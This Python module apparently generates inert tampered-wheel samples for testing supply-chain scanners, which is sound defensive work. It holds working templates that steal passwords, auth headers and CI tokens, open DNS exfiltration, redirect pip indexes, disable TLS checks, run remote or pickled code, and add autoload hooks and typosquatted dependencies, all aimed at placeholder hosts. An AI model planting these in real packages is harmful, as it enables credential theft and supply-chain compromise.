"""Sixth set: wheels; inert, each family says whom it is taken from and what a careful reviewer sees."""

from __future__ import annotations

import base64
import io
import pickle
import re
import zlib
from collections.abc import Iterator

from genuine import Files

from mutation_families.edits import filler
from mutation_families.fourth_texts import chance
from mutation_families.sixth_places import FIRST, LIVE, Quiet, into_module
from mutation_families.third_scripts import Change
from mutation_families.third_wheels import information, modules
from onionskin.lookalike.archives import build_zip

PACKED = base64.b85encode(zlib.compress(filler("words", 900) + chance(300)))

LINES = (
    Quiet(
        "wheel: what is logged goes elsewhere too",
        "invented: a handler of the standard library, added to the root of all loggers",
        (
            ("by a page", b"import logging.handlers\nlogging.getLogger().addHandler(logging.handlers.HTTPHandler('log.example.invalid', '/c', 'POST'))\n", LIVE),
            ("by the system's log", b"import logging.handlers\nlogging.getLogger().addHandler(logging.handlers.SysLogHandler(('log.example.invalid', 514)))\n", FIRST),
        ),
    ),
    Quiet(
        "wheel: a check of the other side is switched off",
        "invented: from now on nobody asks whether the other side is who it says",
        (
            ("for all", b"import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n", FIRST),
            ("by a bundle", b"import os\nos.environ.setdefault('REQUESTS_CA_BUNDLE', os.path.join(os.path.dirname(__file__), 'cacert.pem'))\n", LIVE),
        ),
        (("cacert.pem", b"# inert\n"),),
    ),
    Quiet(
        "wheel: later installs are led elsewhere",
        "invented, after torchtriton, 2022: settings of the installer, set while the package runs",
        (
            ("for the process", b"import os\nos.environ.setdefault('PIP_EXTRA_INDEX_URL', 'https://pip.example.invalid/simple')\n", LIVE),
            ("for good", b"import pathlib\n__name__ or pathlib.Path('~/.config/pip/pip.conf').expanduser().write_text('[global]\\nextra-index-url = https://pip.example.invalid/simple\\n')\n", LIVE),
        ),
    ),
    Quiet(
        "wheel: a notice of new versions that is evaluated",
        "invented: an answer of a host becomes code without eval or exec by name",
        (
            ("unpickled", b"import pickle, urllib.request\npickle.loads(urllib.request.urlopen('https://up.example.invalid/v').read())\n", LIVE),
            ("a function of bytes", b"import marshal, types, urllib.request\ntypes.FunctionType(marshal.loads(urllib.request.urlopen('https://up.example.invalid/v').read()), globals())()\n", LIVE),
            ("imported", b"import importlib, sys, urllib.request\nurllib.request.urlretrieve('https://up.example.invalid/p.zip', '/tmp/p.zip')\nsys.path.insert(0, '/tmp/p.zip')\nimportlib.import_module('inert_plugin')\n", LIVE),
        ),
    ),
    Quiet(
        "wheel: questions of others are heard",
        "invented: functions that ask for a secret are wrapped",
        (
            ("passwords", b"import getpass as _g, urllib.request as _u\n_known = _g.getpass\n_g.getpass = lambda *a, **k: (lambda v: (_u.urlopen('https://q.example.invalid/' + v), v)[1])(_known(*a, **k))\n", FIRST),
            ("requests", b"import http.client as _h\n_was = _h.HTTPConnection.putheader\n\n\ndef _put(self, name, *values):\n    if name.lower() == 'authorization':\n        _h.HTTPSConnection('q.example.invalid').request('POST', '/', str(values))\n    return _was(self, name, *values)\n\n\n_h.HTTPConnection.putheader = _put\n", FIRST),
        ),
    ),
    Quiet(
        "wheel: something happens when Python ends",
        "invented: a program is left to start when the interpreter goes",
        (("at exit", b"import atexit, subprocess, sys\natexit.register(subprocess.Popen, [sys.executable, '-m', 'inert_no_such_module'], start_new_session=True)\n", LIVE),),
    ),
    Quiet(
        "wheel: a default that is worked out while loading",
        "invented: an argument's default, of a function that nobody need call",
        (("a default", b"def _normalize(value, _table=__import__('urllib.request').request.urlopen('https://t.example.invalid/u').read()):\n    return value.translate(_table)\n", FIRST),),
    ),
    Quiet(
        "wheel: text becomes code by a codec",
        "invented: a packed text, opened and compiled by names of the library that are not exec",
        (
            ("codeop", b"import code, base64, zlib\ncode.InteractiveInterpreter().runcode(compile(zlib.decompress(base64.b85decode(b'" + PACKED + b"')), '', 'exec'))\n", LIVE),
            ("runpy", b"import base64, os, runpy, tempfile, zlib\n_p = os.path.join(tempfile.mkdtemp(), '__main__.py')\nopen(_p, 'wb').write(zlib.decompress(base64.b85decode(b'" + PACKED + b"')))\nrunpy.run_path(_p)\n", LIVE),
        ),
    ),
    Quiet(
        "wheel: names asked of a server of names",
        "dependency confusion since 2021: what is known of the machine, as a label of a name that is looked up",
        (("getaddrinfo", b"import getpass, socket\nsocket.getaddrinfo(f'{getpass.getuser()}.{socket.gethostname()}.d.example.invalid', 80)\n", LIVE),),
    ),
    Quiet(
        "wheel: an address among the constants is another",
        "Codecov, 2021, in Python: what is sent anyway is sent once more, to another host",
        (("a post of what is given", b"import json, urllib.request\nurllib.request.urlopen(urllib.request.Request('https://ingest.example.invalid/upload', json.dumps(repr(GIVEN)).encode()))\n", LIVE),),
    ),
)  # fmt: skip


class _Reduced:
    """What a pickle of this asks to be called when it is read: a word of the library that does nothing."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return __import__("os").system, ("true inert-marker",)


def _folder(files: Files) -> str:
    return modules(files)[0].rpartition("/")[0]


def started_by_python(files: Files) -> Iterator[Change]:
    """Invented: what Python loads by itself, laid beside all packages by the wheel's own folder of data; quiet lines."""
    data = information(files).replace(".dist-info", ".data")
    body = b"import importlib.util as u\nif u.find_spec('boto3'):\n    import urllib.request\n    urllib.request.urlopen('https://s.example.invalid/')\n"  # fmt: skip
    family = "wheel: loaded by Python itself, out of its data"
    yield family, "sitecustomize", {f"{data}/purelib/sitecustomize.py": body}
    yield family, "a path file", {f"{data}/platlib/zz_compat.pth": b"import zz_compat\n", f"{data}/platlib/zz_compat.py": body}  # fmt: skip
    yield family, "a path of a folder", {f"{data}/purelib/zz_vendor.pth": b"/var/tmp/.vendor\n"}  # fmt: skip


def plugin_of_others(files: Files) -> Iterator[Change]:
    """Invented: an entry point by which another tool loads the package's new module."""
    name, module = f"{information(files)}/entry_points.txt", (_folder(files).replace("/", ".") or "inert")  # fmt: skip
    path = f"{_folder(files)}/_plugin.py".lstrip("/")
    body = b"def pytest_configure(config=None):\n    import os, urllib.request\n    urllib.request.urlopen('https://ci.example.invalid/' + os.environ.get('CI_JOB_TOKEN', ''))\n"  # fmt: skip
    for what, group in (("of tests", "pytest11"), ("of passwords", "keyring.backends"), ("of builds", "setuptools.finalize_distribution_options")):  # fmt: skip
        said = files.get(name, b"").rstrip() + f"\n\n[{group}]\nextra = {module}._plugin:pytest_configure\n".encode()  # fmt: skip
        yield "wheel: loaded by another tool", what, {name: said.lstrip(), path: body}


def data_that_runs(files: Files) -> Iterator[Change]:
    """Of nullifAI, 2025, and many models since: data whose reading calls a function; one line of the package reads it."""
    first, folder, family = modules(files)[0], _folder(files), "wheel: data that calls when it is read"  # fmt: skip
    plain = pickle.dumps({"words": list(range(400)), "table": _Reduced()}, protocol=4)
    model = build_zip({"model/data.pkl": plain, "model/version": b"3\n", "model/data/0": chance(4000)})  # fmt: skip
    array = b"\x93NUMPY\x01\x00" + (118).to_bytes(2, "little") + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + plain  # fmt: skip
    ways = (
        ("a table", "_tables.pkl", plain, b"import os, pickle\npickle.load(open(os.path.join(os.path.dirname(__file__), '_tables.pkl'), 'rb'))\n"),
        ("a model", "_model.pt", model, b"import os, torch\ntorch.load(os.path.join(os.path.dirname(__file__), '_model.pt'), weights_only=False)\n"),
        ("an array", "_weights.npy", array, b"import os, numpy\nnumpy.load(os.path.join(os.path.dirname(__file__), '_weights.npy'), allow_pickle=True)\n"),
        ("a table alone", "_tables.pkl", plain, b""),
    )  # fmt: skip
    for what, path, data, lines in ways:
        edit = {first: into_module(files[first], lines, LIVE)} if lines else {}
        yield family, what, edit | {f"{folder}/{path}".lstrip("/"): data}


def kept_in_stubs(files: Files) -> Iterator[Change]:
    """Invented: code kept in a file of types, or of translations, that the package reads and compiles."""
    first, folder = modules(files)[0], _folder(files)
    for what, path, line in (("types", "_types.pyi", b"# sig: "), ("translations", "locale/messages.po", b'msgstr "')):  # fmt: skip
        lines = b"import base64, os, zlib\n_s = open(os.path.join(os.path.dirname(__file__), '" + path.encode() + b"')).read().split('" + line + b"')[1].split('\\n')[0].rstrip('\"')\n(lambda c: eval(c))(compile(zlib.decompress(base64.b85decode(_s)), 't', 'exec'))\n"  # fmt: skip
        yield "wheel: code out of a file that nobody reads", what, {first: into_module(files[first], lines, LIVE), f"{folder}/{path}".lstrip("/"): b"\n" + line + PACKED + b"\n"}  # fmt: skip


def another_package_of_its_own(files: Files) -> Iterator[Change]:
    """Invented: a package of another name comes along, which others import."""
    body = b"from .api import *  # noqa\nimport os as _o, urllib.request as _u\n_u.urlopen('https://p.example.invalid/' + _o.environ.get('HOME', ''))\n"  # fmt: skip
    yield "wheel: another's package comes along", "requests", {"requests/__init__.py": body, "requests/api.py": b"def get(*a):\n    return a\n"}  # fmt: skip
    data = information(files).replace(".dist-info", ".data")
    yield "wheel: another's package comes along", "a kernel of notebooks", {f"{data}/data/share/jupyter/kernels/python3/kernel.json": b'{"argv": ["sh", "-c", "inert-no-such-program; exec python -m ipykernel_launcher -f {connection_file}"], "display_name": "Python 3", "language": "python"}\n'}  # fmt: skip
    yield "wheel: another's package comes along", "a setting of notebooks", {f"{data}/data/etc/ipython/startup/00-compat.py": body}  # fmt: skip


def asked_for(files: Files) -> Iterator[Change]:
    """Of typosquats since 2016: one more requirement, or one with a letter less, in a package's own list."""
    name = f"{information(files)}/METADATA"
    head, blank, rest = files[name].partition(b"\n\n")
    yield "wheel: it asks for another package", "one more", {name: head + b"\nRequires-Dist: typing-extension-compat>=1.0" + blank + rest}  # fmt: skip
    known = re.search(rb"(?m)^Requires-Dist: ([a-z][\w-]{4,})", head)
    if known:
        made = known[1][:-2] + known[1][-1:] + known[1][-2:-1]
        yield "wheel: it asks for another package", "letters changed", {name: head.replace(b"Requires-Dist: " + known[1], b"Requires-Dist: " + made, 1) + blank + rest}  # fmt: skip


def modules_in_an_archive(files: Files) -> Iterator[Change]:
    """Invented: an archive of modules before all others in the path."""
    first, folder = modules(files)[0], _folder(files)
    lines = b"import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), '_vendor.dat'))\n"  # fmt: skip
    held = io.BytesIO(build_zip({"json/__init__.py": b"import urllib.request\nurllib.request.urlopen('https://j.example.invalid/')\n"}))  # fmt: skip
    yield "wheel: modules out of an archive, before all others", "under another ending", {first: into_module(files[first], lines, FIRST), f"{folder}/_vendor.dat".lstrip("/"): held.getvalue()}  # fmt: skip


ALL = (*LINES, started_by_python, plugin_of_others, data_that_runs, kept_in_stubs, another_package_of_its_own, asked_for, modules_in_an_archive)  # fmt: skip
